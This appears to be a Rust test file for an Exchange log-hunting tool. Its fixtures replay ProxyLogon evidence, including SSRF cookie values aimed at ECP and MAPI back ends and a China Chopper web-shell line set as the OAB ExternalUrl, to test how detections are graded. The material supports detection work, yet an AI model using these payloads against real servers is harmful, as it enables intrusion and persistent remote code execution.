//! Verdict precision (issue 13): one request in IIS and HttpProxy logs is one step graded on the
//! HttpProxy view, and refused attempts are told apart from attempts of unknown outcome.
//!
//! Each fixture is a small server tree written at test time in the shape of real logs (HttpProxy
//! CSV with its directives, IIS W3C, a flattened Sysmon export), the near miss next to the hit.

use std::path::Path;

use exhunt_checks::{Engine, ScanOptions};
use exhunt_model::{Campaign, Finding, Outcome, ServerResult, Stage, VerdictKind};

const PROXY_FIELDS: &str = "DateTime,RequestId,Protocol,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,Method,TargetServer,RoutingHint,BackEndCookie,UrlQuery";

/// One HttpProxy line from named values (others empty).
fn proxy(values: &[(&str, &str)]) -> String {
    PROXY_FIELDS
        .split(',')
        .map(|f| {
            let v = values
                .iter()
                .find(|(k, _)| *k == f)
                .map(|(_, v)| *v)
                .unwrap_or(if f == "ServerHostName" { "EX01" } else { "" });
            if v.contains(',') {
                format!("\"{}\"", v.replace('"', "\"\""))
            } else {
                v.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join(",")
}

fn proxy_file(version: &str, date: &str, lines: &[String]) -> String {
    let mut s = format!(
        "{PROXY_FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: {version}\r\n#Log-type: HttpProxy Logs\r\n#Date: {date}\r\n#Fields: {PROXY_FIELDS}\r\n"
    );
    for l in lines {
        s.push_str(l);
        s.push_str("\r\n");
    }
    s
}

const IIS_FIELDS: &str = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";

fn iis_file(date: &str, lines: &[String]) -> String {
    let mut s = format!(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: {date}\r\n#Fields: {IIS_FIELDS}\r\n"
    );
    for l in lines {
        s.push_str(l);
        s.push_str("\r\n");
    }
    s
}

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

const PROXY_ECP: &str = "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp";
const IIS: &str = "inetpub/logs/LogFiles/W3SVC1";

fn scan(root: &Path) -> ServerResult {
    let engine = Engine::new(ScanOptions::default()).unwrap();
    let r = engine.scan(&[root.to_path_buf()]);
    assert_eq!(r.servers.len(), 1, "{:#?}", r.servers);
    r.servers[0].clone()
}

fn verdict(s: &ServerResult, c: Campaign) -> &exhunt_model::Verdict {
    s.verdicts.iter().find(|v| v.campaign == c).unwrap()
}

fn show(s: &ServerResult) -> String {
    let mut out = String::new();
    for f in &s.findings {
        out.push_str(&format!(
            "{:?} {} {:?} {:?} {:?} {}\n",
            f.timestamp, f.rule_id, f.campaign, f.stage, f.outcome, f.title
        ));
    }
    for v in &s.verdicts {
        out.push_str(&format!(
            "{:?}: {} {:?}\n",
            v.campaign, v.summary, v.reasons
        ));
    }
    out
}

/// March 2021 mass scanning: SSRF attempts whose back end was only autodiscover.xml (the
/// scanner had no mailbox), each seen in HttpProxy and, as `POST /ecp/<x>.js 200`, in IIS.
fn mass_scanning(root: &Path, extra_proxy: &[String], extra_iis: &[String]) {
    let scans = [
        (
            "2021-03-03T02:14:05.585Z",
            "02:14:05",
            "198.51.100.11",
            "x.js",
            "1a",
        ),
        (
            "2021-03-03T05:40:11.020Z",
            "05:40:11",
            "198.51.100.12",
            "y.js",
            "2b",
        ),
        (
            "2021-03-04T11:02:59.912Z",
            "11:03:00",
            "203.0.113.99",
            "ab.js",
            "3c",
        ),
    ];
    let mut proxy_lines = vec![proxy(&[
        ("DateTime", "2021-03-03T00:00:01.000Z"),
        ("UrlStem", "/ecp/"),
        ("HttpStatus", "200"),
        ("Method", "GET"),
        ("AuthenticatedUser", "CONTOSO\\exadmin"),
        ("ClientIpAddress", "10.1.0.15"),
    ])];
    let mut iis_lines = Vec::new();
    for (t, iis_t, ip, name, id) in scans {
        proxy_lines.push(proxy(&[
            ("DateTime", t),
            (
                "RequestId",
                &format!("{id}0e41a7-1111-2222-3333-444455556666"),
            ),
            ("Protocol", "Ecp"),
            ("UrlStem", &format!("/ecp/{name}")),
            ("AuthenticationType", "FBA"),
            ("IsAuthenticated", "false"),
            (
                "AnchorMailbox",
                "ServerInfo~a]@EX01.contoso.local:444/autodiscover/autodiscover.xml?#",
            ),
            ("UserAgent", "python-requests/2.25.1"),
            ("ClientIpAddress", ip),
            ("HttpStatus", "200"),
            ("BackEndStatus", "200"),
            ("Method", "POST"),
            ("TargetServer", "EX01.contoso.local"),
            ("RoutingHint", "X-AnonResource-Backend-Cookie"),
        ]));
        let day = &t[..10];
        iis_lines.push(format!(
            "{day} {iis_t} 10.1.0.10 POST /ecp/{name} - 443 - {ip} python-requests/2.25.1 - 200 0 0 31"
        ));
    }
    proxy_lines.extend(extra_proxy.iter().cloned());
    proxy_lines.push(proxy(&[
        ("DateTime", "2021-03-04T23:59:58.000Z"),
        ("UrlStem", "/ecp/"),
        ("HttpStatus", "200"),
        ("Method", "GET"),
        ("AuthenticatedUser", "CONTOSO\\exadmin"),
        ("ClientIpAddress", "10.1.0.15"),
    ]));
    iis_lines.extend(extra_iis.iter().cloned());
    write(
        root,
        &format!("{PROXY_ECP}/HttpProxy_2021030300-1.LOG"),
        &proxy_file("15.01.2176.002", "2021-03-03T00:00:00.000Z", &proxy_lines),
    );
    write(
        root,
        &format!("{IIS}/u_ex210303.log"),
        &iis_file("2021-03-03 00:00:00", &iis_lines),
    );
}

/// Near miss first: autodiscover-only SSRF attempts and their IIS twins are attempts.
#[test]
fn autodiscover_only_ssrf_with_iis_twins_is_attempted_not_compromised() {
    let t = tempfile::tempdir().unwrap();
    mass_scanning(t.path(), &[], &[]);
    let s = scan(t.path());
    let pl = verdict(&s, Campaign::ProxyLogon);
    assert_eq!(pl.verdict, VerdictKind::Attempted, "{}", show(&s));
    // Every IIS line is graded on its HttpProxy twin: a failed attempt, in the twin's step.
    let iis: Vec<&Finding> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "EXH-PL-4")
        .collect();
    assert_eq!(iis.len(), 3, "{}", show(&s));
    for f in &iis {
        assert_eq!(f.stage, Stage::ExploitAttempt, "{}", f.title);
        assert_eq!(f.outcome, Some(Outcome::Refused), "{}", f.title);
        assert_eq!(f.joins.as_deref(), Some("EXH-PL-1"));
        assert!(f.title.contains("same request as HttpProxy"), "{}", f.title);
        assert!(f.title.contains("autodiscover"), "{}", f.title);
    }
    // One request, one step: the three requests, each in two logs, are one failed-attempt step.
    let ssrf: Vec<_> = s
        .story
        .iter()
        .filter(|st| st.stage == Stage::ExploitAttempt && st.outcome == Some(Outcome::Refused))
        .collect();
    assert_eq!(ssrf.len(), 1, "{:#?}", s.story);
    assert_eq!(ssrf[0].count, 6);
    assert!(
        ssrf[0].summary.starts_with("CVE-2021-26855 SSRF attempt"),
        "the step is told from the HttpProxy view: {}",
        ssrf[0].summary
    );
    assert!(ssrf[0].summary.contains("refused"), "{}", ssrf[0].summary);
    assert!(
        pl.reasons.iter().any(|r| r.contains("failed")),
        "{:?}",
        pl.reasons
    );
    // The scanners' python-requests user agent is on the HAFNIUM list: linked to the
    // ProxyLogon attempts by client, it stays with ProxyLogon (an attempt, never more).
    assert!(
        s.findings
            .iter()
            .filter(|f| f.rule_id == "EXH-IOC-2")
            .all(|f| f.campaign == Campaign::ProxyLogon && f.stage == Stage::ExploitAttempt)
    );
}

/// The same server where one SSRF reached the ECP back end and the ECP log shows the
/// OAB virtual directory set to script: compromised.
#[test]
fn backend_ssrf_and_an_ecp_change_on_the_same_server_is_compromised() {
    let t = tempfile::tempdir().unwrap();
    let hit = proxy(&[
        ("DateTime", "2021-03-03T02:15:41.111Z"),
        ("RequestId", "799b7f7a-9987-5dce-cbd2-e93cbf1238b6"),
        ("Protocol", "Ecp"),
        ("UrlStem", "/ecp/y.js"),
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x#",
        ),
        ("UserAgent", "ExchangeServicesClient/0.0.0.0"),
        ("ClientIpAddress", "192.0.2.66"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
    ]);
    let mapi = proxy(&[
        ("DateTime", "2021-03-03T02:14:09.088Z"),
        ("Protocol", "Ecp"),
        ("UrlStem", "/ecp/y.js"),
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01.contoso.local:444/mapi/emsmdb/?#",
        ),
        ("ClientIpAddress", "192.0.2.66"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
    ]);
    mass_scanning(
        t.path(),
        &[mapi, hit],
        &[
            "2021-03-03 02:14:09 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.66 ExchangeServicesClient/0.0.0.0 - 200 0 0 31".into(),
            "2021-03-03 02:15:41 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.66 ExchangeServicesClient/0.0.0.0 - 200 0 0 31".into(),
        ],
    );
    let chopper = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>";
    write(
        t.path(),
        "Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer2021030302-1.LOG",
        &format!(
            "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: ECP Server Log\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n2021-03-03T02:15:42.938Z,EX01,ECP.Request,\"S:ACTID=1;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:CMD=Set-OabVirtualDirectory.ExternalUrl='{}'.Identity='OAB (Default Web Site)'\"\r\n",
            chopper.replace('"', "\"\"")
        ),
    );
    let s = scan(t.path());
    let pl = verdict(&s, Campaign::ProxyLogon);
    assert_eq!(pl.verdict, VerdictKind::Compromised, "{}", show(&s));
    // The IIS twins of the back-end SSRF are successes in the HttpProxy steps.
    let twins: Vec<&Finding> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "EXH-PL-4" && f.stage == Stage::ExploitSuccess)
        .collect();
    assert_eq!(twins.len(), 2, "{}", show(&s));
    assert!(twins.iter().all(|f| f.outcome == Some(Outcome::Succeeded)));
    assert!(
        s.findings
            .iter()
            .any(|f| f.rule_id == "EXH-PL-6" && f.stage == Stage::Persistence)
    );
}

/// An IIS-only exploit shape: a success (with lower confidence and the reason) only when no
/// HttpProxy log of its protocol covers its time; an attempt of unknown outcome when one does.
#[test]
fn iis_only_success_needs_the_httpproxy_view_to_be_missing() {
    let iis = iis_file(
        "2021-03-03 00:00:00",
        &["2021-03-03 02:14:05 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.66 Mozilla/5.0 - 200 0 0 31"
            .into()],
    );
    let ecp_cover = proxy_file(
        "15.01.2176.002",
        "2021-03-03T00:00:00.000Z",
        &[
            proxy(&[
                ("DateTime", "2021-03-03T00:00:01.000Z"),
                ("UrlStem", "/ecp/"),
                ("HttpStatus", "200"),
            ]),
            proxy(&[
                ("DateTime", "2021-03-03T23:59:01.000Z"),
                ("UrlStem", "/ecp/"),
                ("HttpStatus", "200"),
            ]),
        ],
    );
    // Only IIS: a success, graded on the IIS line alone.
    let t = tempfile::tempdir().unwrap();
    write(t.path(), &format!("{IIS}/u_ex210303.log"), &iis);
    let s = scan(t.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitSuccess, "{}", show(&s));
    assert_eq!(f.confidence, exhunt_model::Confidence::Medium);
    assert!(
        f.title.contains("no HttpProxy log covers this time"),
        "{}",
        f.title
    );
    // An OWA HttpProxy log of that day does not cover an ECP request.
    write(
        t.path(),
        "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030300-1.LOG",
        &ecp_cover,
    );
    let s = scan(t.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitSuccess, "{}", show(&s));
    // The ECP HttpProxy log covers it and has no SSRF row for it: an attempt, outcome unknown.
    write(
        t.path(),
        &format!("{PROXY_ECP}/HttpProxy_2021030300-1.LOG"),
        &ecp_cover,
    );
    let s = scan(t.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitAttempt, "{}", show(&s));
    assert_eq!(f.outcome, Some(Outcome::Unknown));
    assert!(
        f.title.contains("shows no SSRF for this request"),
        "{}",
        f.title
    );
    let pl = verdict(&s, Campaign::ProxyLogon);
    assert_eq!(pl.verdict, VerdictKind::Attempted);
    assert!(
        pl.reasons.iter().any(|r| r.contains("unknown outcome")),
        "{:?}",
        pl.reasons
    );
}
